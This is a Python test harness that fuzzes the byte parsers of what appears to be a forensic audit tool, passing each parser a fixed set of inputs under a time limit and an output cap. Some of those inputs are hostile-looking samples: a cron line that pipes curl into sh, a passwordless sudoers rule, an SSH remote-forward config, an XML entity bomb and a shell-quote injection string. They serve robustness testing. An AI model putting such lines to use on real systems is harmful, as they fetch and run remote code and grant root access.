"""One harness for all pure parsers of what lies on a device: whatever the bytes, a value or a ParseError, soon and bounded."""

from __future__ import annotations

import contextlib
import importlib
import inspect
import pkgutil
import sqlite3
import time
from collections.abc import Callable, Iterator
from typing import Any, ClassVar, Final

SECONDS: Final = 5  # for one input: a loop, or work that grows faster than the input
_MOST: Final = 1_000_000  # things that one parser may yield
_PACKAGES: Final = ("audit.artifacts", "audit.stores")
TEXTS: Final = (
    b"",
    b"\0",
    b"\xff\xfe",
    b"[section]\nkey=value\nother=1\n",
    b'{"a": {"b": [1, 2.5, null, true, "x"]}}',
    b"[" * 5000,
    b'{"a":' * 5000,
    b"<?xml version='1.0'?><a b='c'><d>e</d></a>",
    b"<!DOCTYPE a [<!ENTITY b 'c'><!ENTITY d '&b;&b;'>]><a>&d;</a>",
    b"0 5 * * * alice curl -s http://x | sh\n",
    b"alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash\n",
    b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA== a@b\n",
    b"Host *\n  RemoteForward 1 a:2\n",
    b"alice ALL=(ALL) NOPASSWD: ALL\n",
    b"127.0.0.1 localhost\n",
    b"bplist00\xd1\x01\x02QaQb\x08\x0b\x0d\x0f" + bytes(32),
    b"GVariant" + bytes(40),
    b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
    b"\0" * 384,
    b"a" * 20000,
    b"'\\\"$(" * 2000,
)


def parsers() -> dict[str, Callable[[bytes], Any]]:
    """Every public function of one `bytes` in the modules of artifacts and stores, by its full name."""
    found = {}
    for package in _PACKAGES:
        for module in pkgutil.iter_modules(importlib.import_module(package).__path__, package + "."):
            own = importlib.import_module(module.name)
            for name, function in vars(own).items():
                if not name.startswith("_") and _takes_bytes(function, own.__name__):
                    found[f"{module.name}.{name}"] = function
    return dict(sorted(found.items()))


def _takes_bytes(function: Any, module: str) -> bool:
    if not inspect.isfunction(function) or function.__module__ != module:
        return False
    needed = [
        each
        for each in inspect.signature(function).parameters.values()
        if each.default is inspect.Parameter.empty
    ]
    return len(needed) == 1 and needed[0].annotation == "bytes"  # as all modules here write it


class Parsers:
    """The first two bytes of an input choose the parser; the rest is what it gets."""

    broken: ClassVar[dict[str, bytes]] = {}

    def __init__(self) -> None:
        self.all = list(parsers().values())

    def every(self) -> dict[str, bytes]:
        """Each parser with each text, and with a database."""
        texts = [*TEXTS, database()]
        return {
            f"{number} {place}": number.to_bytes(2, "big") + text
            for number in range(len(self.all))
            for place, text in enumerate(texts)
        }

    def survives(self, data: bytes) -> None:
        from audit.stores import ParseError

        parser = self.all[int.from_bytes(data[:2], "big") % len(self.all)]
        start = time.process_time()
        with contextlib.suppress(ParseError):
            self._spend(parser(data[2:]))
        if time.process_time() - start > SECONDS:
            raise TimeoutError(f"{parser.__module__}.{parser.__name__}: {len(data)} bytes")

    def _spend(self, found: Any) -> None:
        if isinstance(found, Iterator):
            for count, _ in enumerate(found):
                if count > _MOST:
                    raise OverflowError("more than anybody needs")


def database() -> bytes:
    """A small SQLite database."""
    with sqlite3.connect(":memory:") as made:
        made.execute("create table a (b integer primary key, c text, d blob)")
        made.execute("insert into a values (1, 'x', x'00')")
        return made.serialize()
